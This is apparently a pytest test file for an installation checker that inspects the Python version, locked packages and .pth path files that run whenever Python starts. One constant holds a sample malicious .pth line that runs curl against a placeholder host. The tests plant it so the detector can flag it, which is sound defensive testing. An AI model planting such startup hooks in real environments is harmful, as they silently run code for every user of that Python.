"""Python, packages, and files that run at every start of Python."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from bridge.doctor import installation
from bridge.doctor.finding import Level
from bridge.doctor.installation import check_packages, check_path_files, check_python

EVIL = "import os; os.system('curl https://elsewhere.example')\n"


def test_this_python_will_do(installation) -> None:
    assert check_python(installation()).level is Level.GREEN


def test_an_old_python_will_not(installation, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "version_info", (3, 10, 4))
    found = check_python(installation())
    assert found.level is Level.RED
    assert "3.10.4" in found.says


# --- packages ----------------------------------------------------------------------------------------


@pytest.fixture
def lock(monkeypatch: pytest.MonkeyPatch, tmp_path: Path):
    """Puts other locks in the place of ours."""

    def write(run: str, development: str = "") -> None:
        (tmp_path / "requirements.lock").write_text(run)
        (tmp_path / "requirements-dev.lock").write_text(development)
        monkeypatch.setattr(installation, "PROJECT", tmp_path)

    return write


OURS = (installation.PROJECT / "requirements.lock").read_text()
DEVELOPMENT = (installation.PROJECT / "requirements-dev.lock").read_text()


def test_packages_as_locked_are_fine(installation) -> None:
    assert check_packages(installation()).level is Level.GREEN


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("flask==1.0", "flask is 3"),
        ("no-such-package==1.0", "no-such-package is missing"),
        ("Flask==1.0 ; sys_platform == 'win32'", "flask is 3"),
    ],
)
def test_another_version_and_a_missing_package_are_told(installation, lock, line: str, said: str) -> None:
    lock(OURS + f"{line} \\\n    --hash=sha256:0\n", DEVELOPMENT)
    found = check_packages(installation())
    assert found.level is Level.RED
    assert said in found.says


def test_a_package_of_other_platforms_may_be_missing(installation, lock) -> None:
    lock(OURS + "colorama-of-windows==0.4 ; sys_platform == 'win32' \\\n    --hash=sha256:0\n", DEVELOPMENT)
    assert check_packages(installation()).level is Level.GREEN


def test_a_package_that_is_in_no_lock_is_told(installation, lock) -> None:
    lock(OURS)
    found = check_packages(installation())
    assert found.level is Level.YELLOW
    assert "pytest" in found.says


def test_without_a_lock_there_is_nothing_to_compare(installation, lock) -> None:
    lock("")
    assert check_packages(installation()).level is Level.YELLOW


# --- path files --------------------------------------------------------------------------------------


@pytest.fixture
def packages(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    folder = tmp_path / "site-packages"
    folder.mkdir()
    monkeypatch.setattr(installation, "package_folders", lambda: [folder])
    return folder


def bring(folder: Path, package: str, name: str, text: str, recorded: str | None = None) -> None:
    """A path file, and the record of the package that brought it."""
    (folder / name).write_text(text)
    about = folder / f"{package}-1.0.dist-info"
    about.mkdir()
    (about / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {package}\nVersion: 1.0\n")
    (about / "RECORD").write_text(f"{name},sha256={recorded or installation._hash(folder / name)},1\n")


def test_the_path_files_here_are_known(installation) -> None:
    assert check_path_files(installation()).level is Level.GREEN


def test_a_known_path_file_is_fine_as_long_as_it_is_unchanged(installation, packages: Path) -> None:
    bring(packages, "setuptools", "distutils-precedence.pth", "import os\n")
    assert check_path_files(installation()).level is Level.GREEN
    (packages / "distutils-precedence.pth").write_text(EVIL)
    assert check_path_files(installation()).level is Level.RED


@pytest.mark.parametrize("package", [None, "flask", "some-stranger"])
def test_code_that_runs_at_every_start_is_told_whoever_brought_it(
    installation, packages: Path, package
) -> None:
    if package:
        bring(packages, package, "helper_init.pth", EVIL)
    (packages / "helper_init.pth").write_text(EVIL)
    found = check_path_files(installation())
    assert found.level is Level.RED
    assert "helper_init.pth" in found.says
    assert "replace every key" in found.remedy


def test_in_a_release_the_tools_of_a_checkout_are_strangers(installation, packages: Path, lock) -> None:
    bring(packages, "google-generativeai", "google-nspkg.pth", "import sys\n")
    assert check_path_files(installation()).level is Level.GREEN
    lock(OURS)
    assert check_path_files(installation()).level is Level.RED


def test_another_folder_to_import_from_is_noted(installation, packages: Path) -> None:
    (packages / "more.pth").write_text("/srv/more\n")
    assert check_path_files(installation()).level is Level.YELLOW
